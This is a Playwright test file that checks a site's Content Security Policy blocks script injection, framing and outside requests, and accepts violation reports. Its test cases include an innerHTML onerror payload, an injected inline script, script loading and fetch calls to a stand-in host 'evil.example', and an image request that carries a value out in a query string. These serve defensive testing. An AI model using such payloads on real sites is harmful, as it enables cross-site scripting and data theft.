/** The policy at work: what a stranger's script would try is refused on cached and on rendered pages alike. */
import { apiPaths, pagePaths } from "#contract/paths.ts";
import { decideConsent, expect, hydrated, test } from "./fixtures.ts";

test.beforeEach(({ page }) => decideConsent(page));

/** Chromium's own lines on something that the policy stopped; the event's line is asserted for itself. */
const consoleLine = /Content Security Policy|requires 'Trusted/i;

interface Attempt {
  readonly what: string;
  /** Runs in the page; what it manages to do it leaves in `window.hijacked`. */
  readonly run: () => unknown;
  /** The directive that stops it. */
  readonly directive: string;
}

const attempts: readonly Attempt[] = [
  {
    what: "an inline script put into the document",
    run: () => {
      const script = document.createElement("script");
      script.append("window.hijacked = true");
      document.body.append(script);
    },
    directive: "require-trusted-types-for",
  },
  {
    what: "a script fetched from another site",
    run: () => {
      const script = document.createElement("script");
      try {
        script.src = "https://evil.example/x.js";
      } catch {
        // Trusted Types throw; the violation is told as well.
      }
    },
    directive: "require-trusted-types-for",
  },
  {
    what: "innerHTML with a string",
    run: () => {
      try {
        document.body.innerHTML = "<img src=x onerror='window.hijacked = true'>";
        Object.assign(window, { hijacked: true });
      } catch {
        // As it should.
      }
    },
    directive: "require-trusted-types-for",
  },
  {
    what: "a Trusted Types policy that lets everything through",
    run: () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): void };
      };
      try {
        trustedTypes.createPolicy("default", { createHTML: (text: string) => text });
        Object.assign(window, { hijacked: true });
      } catch {
        // As it should.
      }
    },
    directive: "trusted-types",
  },
  {
    what: "a worker from a string",
    run: () => {
      try {
        new Worker("/assets/x.js");
        Object.assign(window, { hijacked: true });
      } catch {
        // As it should.
      }
    },
    directive: "require-trusted-types-for",
  },
  {
    what: "an event handler in an attribute",
    run: () => {
      const button = document.createElement("button");
      try {
        button.setAttribute("onclick", "window.hijacked = true");
      } catch {
        // As it should.
      }
      document.body.append(button);
      button.click();
    },
    directive: "require-trusted-types-for",
  },
  {
    what: "a style attribute",
    run: () => {
      const box = document.createElement("p");
      box.setAttribute("style", "position: fixed");
      document.body.append(box);
      if (getComputedStyle(box).position === "fixed") Object.assign(window, { hijacked: true });
    },
    directive: "style-src-attr",
  },
  {
    what: "a picture that carries something out",
    run: () => {
      const image = new Image();
      image.onload = () => Object.assign(window, { hijacked: true });
      image.src = "https://evil.example/?q=hemmelig";
    },
    directive: "img-src",
  },
  {
    what: "a call to another site",
    run: () =>
      fetch("https://evil.example/").then(
        () => Object.assign(window, { hijacked: true }),
        () => {},
      ),
    directive: "connect-src",
  },
];

for (const [kind, path] of [
  ["cached", pagePaths.about],
  ["rendered", pagePaths.profile],
] as const) {
  test(`on a ${kind} page a stranger's script is refused`, async ({ page, problems }) => {
    problems.allow(consoleLine);
    await page.goto(path);
    await hydrated(page);
    expect(problems.seen).toEqual([]);
    for (const { what, run, directive } of attempts) {
      await test.step(what, async () => {
        const event = new RegExp(`policy violation: ${directive} `);
        problems.allow(event);
        const before = problems.seen.length;
        await page.evaluate(run);
        await expect.poll(() => problems.seen.slice(before).some((line) => event.test(line))).toBe(true);
        expect(await page.evaluate(() => "hijacked" in window)).toBe(false);
      });
    }
  });
}

test("a page can't be put into a frame", async ({ page, problems, baseURL }) => {
  problems.allow(/frame-ancestors|Framing/);
  await page.setContent(`<iframe src="${baseURL}${pagePaths.front}"></iframe>`);
  await expect.poll(() => problems.seen.length).toBeGreaterThan(0);
  await expect(page.frameLocator("iframe").getByRole("heading")).toHaveCount(0);
});

test("a browser's report on what was stopped is taken", async ({ request, baseURL }) => {
  const report = await request.post(apiPaths.cspReport, {
    headers: { "content-type": "application/reports+json" },
    data: [
      {
        type: "csp-violation",
        age: 1,
        url: `${baseURL}${pagePaths.about}`,
        user_agent: "test",
        body: { effectiveDirective: "img-src", blockedURL: "https://evil.example/picture.png", disposition: "enforce" },
      },
    ],
  });
  expect(report.ok()).toBe(true);
});
